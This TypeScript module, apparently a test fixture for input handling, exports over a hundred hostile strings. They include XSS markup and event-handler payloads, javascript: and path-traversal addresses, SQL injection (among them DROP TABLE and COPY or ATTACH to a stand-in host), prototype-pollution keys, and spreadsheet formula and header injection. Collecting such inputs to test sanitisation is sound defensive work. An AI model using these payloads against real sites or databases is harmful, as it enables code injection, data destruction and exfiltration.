/** Markup and script, each of which calls `alert` or adds an element where text becomes markup. */
const markup = [
	'<script>alert(1)</script>',
	'</script><script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'"><img src=x onerror=alert(1)>',
	"'><img src=x onerror=alert(1)>",
	'<svg onload=alert(1)>',
	'<svg/onload=alert(1)>',
	'</text></svg><script>alert(1)</script>',
	'</title><script>alert(1)</script>',
	'</style><script>alert(1)</script>',
	'</textarea><script>alert(1)</script>',
	']]><script>alert(1)</script>',
	'--><script>alert(1)</script>',
	'<!--<img src="--><img src=x onerror=alert(1)//">',
	'<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
	'<iframe src=javascript:alert(1)>',
	'<object data="data:text/html,<script>alert(1)</script>">',
	'<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
	'<math><mtext></p><img src onerror=alert(1)>',
	'<details open ontoggle=alert(1)>',
	'<body onload=alert(1)>',
	'<input autofocus onfocus=alert(1)>',
	'<a href="javascript:alert(1)">x</a>',
	'<form action="javascript:alert(1)"><button>',
	'<base href="https://elsewhere.invalid/">',
	'<link rel=stylesheet href="https://elsewhere.invalid/a.css">',
	'<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
	'<style>@import "https://elsewhere.invalid/a.css"</style>',
	'<foreignObject><body onload=alert(1)></foreignObject>',
	'<use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/>',
	'<animate onbegin=alert(1) attributeName=x dur=1s>',
	'<set attributeName=href to=javascript:alert(1)>',
	'<template><script>alert(1)</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<marquee onstart=alert(1)>',
	'<video><source onerror=alert(1)>',
	'<audio src=x onerror=alert(1)>',
	'" onmouseover="alert(1)',
	"' onfocus='alert(1)' autofocus='",
	'` onload=`alert(1)',
	'" style="background:url(https://elsewhere.invalid/)',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'&#60;script&#62;alert(1)&#60;/script&#62;',
	'\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
	'{@html "<script>alert(1)</script>"}',
	'{{constructor.constructor("alert(1)")()}}',
	'${alert(1)}',
	'#{alert(1)}',
	'<%= alert(1) %>',
	'[[x|javascript:alert(1)]]'
];

/** Addresses that run or leave. */
const addresses = [
	'javascript:alert(1)',
	'JaVaScRiPt:alert(1)',
	'java\tscript:alert(1)',
	'\u0001javascript:alert(1)',
	'data:text/html,<script>alert(1)</script>',
	'vbscript:msgbox(1)',
	'//elsewhere.invalid/',
	'https://elsewhere.invalid/',
	'\\\\elsewhere.invalid\\share',
	'blob:https://elsewhere.invalid/x',
	'../../../../etc/passwd',
	'..%2f..%2fetc%2fpasswd',
	'%00',
	'%E0%A4%A',
	'file:///etc/passwd'
];

/** Statements of SQL where a value or a name is expected. */
const statements = [
	"' OR '1'='1",
	"'; DROP TABLE areas; --",
	'"; DROP TABLE areas; --',
	'") FROM areas; DROP TABLE areas; --',
	"' UNION SELECT * FROM areas --",
	"england'--",
	'england/**/',
	"\\'; DROP TABLE areas; --",
	"'; ATTACH 'https://elsewhere.invalid/x.db'; --",
	"'; COPY areas TO 'https://elsewhere.invalid/'; --",
	"'; INSTALL httpfs; LOAD httpfs; --",
	"read_csv('https://elsewhere.invalid/x.csv')",
	'$$; SELECT 1; $$',
	'?1',
	'$name'
];

/** Names that objects have by themselves. */
const properties = [
	'__proto__',
	'constructor',
	'prototype',
	'toString',
	'hasOwnProperty',
	'valueOf',
	'__defineGetter__',
	'__proto__[polluted]=1',
	'constructor.prototype.polluted',
	'__proto__.polluted'
];

/** Texts that spreadsheets, terminals and layouts take for more than text. */
const texts = [
	'=HYPERLINK("https://elsewhere.invalid/","x")',
	'=1+1',
	'+1',
	'-1+cmd|calc',
	'@SUM(1)',
	'\t=1+1',
	'a\r\nSet-Cookie: x=1',
	'a\u0000b',
	'\ufeffname',
	'\u202egnp.exe',
	'\u2066x\u2069',
	'\ud800',
	'a\u0301'.repeat(200),
	'x'.repeat(5000),
	'🏴‍☠️',
	'',
	' ',
	'null',
	'undefined',
	'NaN',
	'[object Object]',
	'\u001b[31mred'
];

/** Over a hundred texts by which a page, a file or a database could be made to do what it should not. */
export const hostile: readonly string[] = [
	...markup,
	...addresses,
	...statements,
	...properties,
	...texts
];
